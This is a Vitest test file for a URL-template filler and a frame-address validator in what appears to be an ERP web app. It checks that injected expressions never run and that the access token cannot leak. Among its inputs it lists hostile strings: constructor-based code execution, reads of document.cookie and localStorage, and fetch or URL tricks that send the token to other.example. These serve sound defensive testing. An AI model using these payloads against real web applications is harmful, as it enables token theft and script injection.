import { describe, expect, it } from 'vitest';
import { fillUrlTemplate, frameAddress, type TemplateFacts } from './url-template.ts';

const facts: TemplateFacts = {
  origin: 'https://erp.example',
  serverBase: 'https://erp.example/platform',
  token: 'a b',
  tenant: '1000',
  language: 'zh-CN',
  user: { id: '7', username: 'li na', realname: '李娜', orgCode: 'A01' },
};
const filled = (url: string) => ({ kind: 'filled', url });

describe('expressions in a menu url', () => {
  it.each([
    ['https://x.example/a?b=1', 'https://x.example/a?b=1'],
    ["{{window._CONFIG['domianURL']}}/jmreport", 'https://erp.example/platform/jmreport'],
    ['{{ window._CONFIG["domainURL"] }}/x', 'https://erp.example/platform/x'],
    ['{{window._CONFIG.staticDomainURL}}/a.pdf', 'https://erp.example/platform/sys/common/static/a.pdf'],
    ["{{ window._CONFIG['domianURL'] + '/a+b?u=' + user.username }}", 'https://erp.example/platform/a+b?u=li%20na'],
    ['/x?u={{encodeURIComponent(user.realname)}}&l={{language}}', '/x?u=%E6%9D%8E%E5%A8%9C&l=zh-CN'],
    ["/x?{{encodeURIComponent('a=b')}}", '/x?a%3Db'],
    ['/x?t={{token}}&c={{tenant}}&o={{user.orgCode}}', '/x?t=a%20b&c=1000&o=A01'],
    ['{{location.origin}}/y?id={{user.id}}', 'https://erp.example/y?id=7'],
  ])('[B2.25] %s becomes %s', (template, url) => {
    expect(fillUrlTemplate(template, facts)).toEqual(filled(url));
  });

  it.each([
    ['{{alert(1)}}', 'alert(1)'],
    ['{{ window.localStorage }}', 'window.localStorage'],
    ["{{window._CONFIG['secret']}}", "window._CONFIG['secret']"],
    ["{{'a' + constructor}}", "'a' + constructor"],
    ['{{user.__proto__}}', 'user.__proto__'],
    ['{{}}', ''],
    ['/x?{{token', '{{token'],
  ])('[B2.25] %s is not evaluated but named', (template, expression) => {
    expect(fillUrlTemplate(template, facts)).toEqual({ kind: 'unknown', expression });
  });

  it.each([
    'constructor.constructor("return 1")()',
    "[].filter.constructor('alert(1)')()",
    '`${token}`',
    "import('https://other.example/x.js')",
    'globalThis',
    'window',
    'self.token',
    'document.cookie',
    "localStorage.getItem('pro__Access-Token')",
    "fetch('https://other.example/' + token)",
    "'a'.concat(token)",
    'encodeURIComponent.call(null, token)',
    'encodeURIComponent(alert(1))',
    'encodeURIComponent(encodeURIComponent)',
    "window['_CONFIG']['domianURL']",
    "window._CONFIG['__proto__']",
    'window._CONFIG.constructor',
    'window._CONFIG.toString',
    "user['id']",
    'user.constructor',
    'user.token',
    '__proto__',
    'token; alert(1)',
    'token, alert(1)',
    'token || 1',
    '(token)',
    '!token',
    'token + ',
    "'\\x3c'",
    '7*7',
    '<%= 1 %>',
  ])('[TPL-03] {{%s}} is a name nobody knows, and nothing runs', (expression) => {
    const found = fillUrlTemplate(`/x?a={{${expression}}}`, facts);
    expect(found).toEqual({ kind: 'unknown', expression: expression.trim() });
  });

  it.each(['${token}', '#{token}', '<%= token %>', '{token}', '[[token]]', '%7B%7Btoken%7D%7D'])(
    '[TPL-03] %s is text: there is one way to write an expression',
    (text) => {
      expect(fillUrlTemplate(`/x?a=${text}`, facts)).toEqual(filled(`/x?a=${text}`));
    },
  );

  it.each([
    'https://other.example/?t={{encodeURIComponent(token)}}',
    "https://other.example/?t={{'' + token}}",
    "{{'https://other.example/'}}{{token}}",
    'javascript:{{token}}',
    'data:text/html,{{token}}',
    '\\\\other.example/{{token}}',
    'https://erp.example.other.example/{{token}}',
    'https://erp.example@other.example/{{token}}',
    'http://erp.example/{{token}}',
    'https://erp.example:8443/{{token}}',
  ])('[TPL-03] the access token does not leave by %s', (template) => {
    expect(fillUrlTemplate(template, facts).kind).toBe('leaking');
  });

  it('[TPL-03] what a person is called stays one value, whatever it is', () => {
    const hostile = { ...facts, user: { ...facts.user, realname: "'}}{{token}}&a=<script>#/../" } };
    const found = fillUrlTemplate('https://other.example/?u={{user.realname}}', hostile);
    expect(found).toEqual(filled(`https://other.example/?u=${encodeURIComponent(hostile.user.realname)}`));
  });

  it('[B2.25] the access token is handed to no other site', () => {
    expect(fillUrlTemplate('https://other.example/?t={{token}}', facts)).toEqual({
      kind: 'leaking',
      host: 'other.example',
    });
    expect(fillUrlTemplate("{{window._CONFIG['domianURL']}}@other.example/?t={{token}}", facts).kind).toBe('filled');
    expect(fillUrlTemplate('//other.example/{{token}}', facts).kind).toBe('leaking');
  });
});

describe('the address of a framed page', () => {
  it.each([
    ['https://x.example/a', 'x.example'],
    ['http://x.example:8080', 'x.example:8080'],
    ['/jmreport/view/1?a=b', 'erp.example'],
  ])('[A2.18] may be %s', (url, host) => {
    expect(frameAddress(url, facts.origin)?.host).toBe(host);
  });

  it.each([
    'javascript:alert(1)',
    ' JaVaScRiPt:alert(1)',
    'data:text/html,x',
    'blob:https://erp.example/1',
    'file:///etc',
    'http://',
    '',
  ])('[A2.18] is never %j', (url) => {
    expect(frameAddress(url, facts.origin)).toBeNull();
  });
});
